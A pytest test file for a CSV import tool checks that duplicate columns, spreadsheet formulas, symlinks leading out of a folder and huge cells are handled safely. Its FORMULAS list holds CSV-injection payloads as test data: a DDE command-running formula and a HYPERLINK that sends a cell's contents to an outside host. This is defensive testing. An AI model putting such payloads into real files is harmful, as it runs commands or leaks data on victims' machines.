"""Files that can be read and are odd all the same: names that stand twice, formulas, links that lead out."""

from pathlib import Path

import pytest

from nervecenter.foundation.importing.models import Import
from nervecenter.market.models import Segment
from tests.bad_input.conftest import Holdings
from tests.cli.conftest import Nervecenter
from tests.cli.conftest import nervecenter as nervecenter  # noqa: PLC0414 - the command line, as a fixture
from tests.foundation.pages.readers import body_of, signed_in

pytestmark = pytest.mark.django_db

FORMULAS = (
    '=HYPERLINK("https://example.com/?x="&A1,"Banks")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "-2+3",
)


def test_a_column_that_stands_twice_is_remarked_on_and_the_first_one_counts(
    nervecenter: Nervecenter, tmp_path: Path
) -> None:
    (tmp_path / "segments.csv").write_text("name,code,name\nBanks,b,Insurers\n")

    said = nervecenter("load", str(tmp_path / "segments.csv"), "--as", "segment")

    remark = '"name" stands more than once; the further columns are called "name__2" and so on.'
    assert said.code == 0
    assert f"note: segments.csv, line 1, column name: {remark}" in said.out
    assert [notice["message"] for notice in Import.objects.get().notices] == [remark]
    assert remark.replace('"', "&quot;") in signed_in("viewer").get(f"/imports/{Import.objects.get().pk}/").text
    assert list(Segment.objects.values_list("name", flat=True)) == ["Banks"]


def test_formulas_come_in_as_the_text_they_are_and_go_out_where_no_spreadsheet_runs_them(
    nervecenter: Nervecenter, tmp_path: Path
) -> None:
    quoted = ('"' + text.replace('"', '""') + '"' for text in FORMULAS)
    (tmp_path / "segments.csv").write_text("name,code\n" + "".join(f"{cell},{n}\n" for n, cell in enumerate(quoted)))

    nervecenter("load", str(tmp_path / "segments.csv"), "--as", "segment")
    sheet = body_of(signed_in("viewer").get("/market/segments/export/?format=csv")).decode()
    (tmp_path / "segments.csv").write_text(sheet)
    again = nervecenter("load", str(tmp_path / "segments.csv"), "--as", "segment", "--json")

    assert tuple(Segment.objects.order_by("code").values_list("name", flat=True)) == FORMULAS
    assert [cell for line in sheet.splitlines() for cell in line.split(",") if cell[:1] in {"=", "+", "@", "-"}] == []
    assert sheet.count("'=HYPERLINK") == 1
    assert (again.json["created"], again.json["updated"], again.json["unchanged"]) == (0, 0, 4)


def test_a_link_that_leads_out_of_a_folder_is_refused(
    nervecenter: Nervecenter, tmp_path: Path, holdings: Holdings
) -> None:
    (tmp_path / "secret.csv").write_text("name\nBanks\n")
    (tmp_path / "folder").mkdir()
    (tmp_path / "folder" / "segments.csv").symlink_to(tmp_path / "secret.csv")
    before = holdings()

    said = nervecenter("load", str(tmp_path / "folder"), "--as", "segment")

    assert said.code == 2
    assert said.err == "nervecenter: segments.csv: is a link that leads out of the folder. Copy the file.\n"
    assert holdings() == before


def test_a_cell_of_a_hundred_megabytes_is_refused_by_its_line(
    nervecenter: Nervecenter, tmp_path: Path, holdings: Holdings
) -> None:
    with (tmp_path / "segments.csv").open("wb") as file:
        file.write(b"name,description\nBanks,small\nShops,")
        for _ in range(100):
            file.write(b"x" * 1_000_000)
    before = holdings()

    said = nervecenter("load", str(tmp_path / "segments.csv"), "--as", "segment", "--json")

    assert said.code == 2
    assert [(each["file"], each["row"]) for each in said.json["errors"]] == [("segments.csv", 3)]
    assert "characters" in said.json["errors"][0]["message"]
    assert holdings() == before
